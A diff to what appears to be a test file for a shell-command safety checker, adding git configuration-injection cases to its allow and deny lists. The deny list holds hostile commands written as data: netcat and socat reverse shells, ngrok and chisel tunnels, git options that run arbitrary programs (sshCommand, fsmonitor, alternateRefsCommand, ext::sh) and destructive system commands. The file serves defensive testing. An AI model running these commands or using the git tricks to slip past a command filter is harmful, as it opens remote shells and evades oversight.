@@ -30,6 +30,7 @@ const ALLOWED = `
 git status|git diff --stat|git commit -m fix: main|git commit -am push --force|git push origin feature/login|git push -u origin my-branch
 git push --dry-run --force origin main|git fetch --all --prune|git branch -D old|git reset --hard HEAD~1|git stash push -m x|git log -- .env
 git config --get core.hooksPath|git config user.name Ada|git config --unset core.sshCommand|git -c core.pager=cat log|git clone https://x.example/y
+git -c core.hooksPath=/dev/null -c core.fsmonitor= -c core.askPass= -c protocol.ext.allow=never -c core.alternateRefsCommand=f log|git -c core.alternateRefsCommand=f config user.name
 git commit -m core.hooksPath=x|git rebase --onto main a b|git checkout main|git merge main|git remote -v
 rm -rf node_modules|rm -rf build dist .next|rm -rf /tmp/x|rm -f a.o|rm -rf ./src/../build|rm -rf .git|find . -name *.pyc -delete|rm -rf /var/tmp/x
 cat README.md|grep -r id src|cp a b|tar czf out.tgz src|cat .ssh.md|cat /home/ada/.ssh_notes|sed -i s/a/b/ src/x.c|cp .bashrc.example x
@@ -68,7 +69,7 @@ launchctl load x|tee -a ~/.bashrc|cp x ~/.zshrc|mv x ~/.config/autostart/y|sed -
 nc -e /bin/sh x 1|ncat --exec sh x 1|busybox nc -e sh x 1|socat TCP:x:1 EXEC:/bin/sh|nmap 10.0.0.0/8|ngrok tcp 22|chisel client x R:socks|code tunnel
 git -c core.sshCommand=evil fetch|git -c CORE.SSHCOMMAND=evil fetch|git config core.hooksPath x|git config --global core.fsmonitor evil|git clone -c core.fsmonitor=evil x
 git clone -ccore.fsmonitor=evil x|git --config-env=core.sshCommand=E fetch|git -c alias.x=!sh x|git config alias.x !sh|git -c diff.external=evil diff|git -c Diff.a.TextConv=evil diff
-git clone ext::sh x|git --exec-path=/tmp/x status|git -c core.sshCommand=evil config --get x|iptables -F|shutdown now|modprobe x|mount /dev/sda1 x|sysctl -w a=b|gcore 1`;
+git clone -c core.alternateRefsCommand=evil x|git config core.alternateRefsCommand evil|git clone ext::sh x|git --exec-path=/tmp/x status|git -c core.sshCommand=evil config --get x|iptables -F|shutdown now|modprobe x|mount /dev/sda1 x|sysctl -w a=b|gcore 1`;
 
 for (const [outcome, lines] of [
   ["allow", ALLOWED],
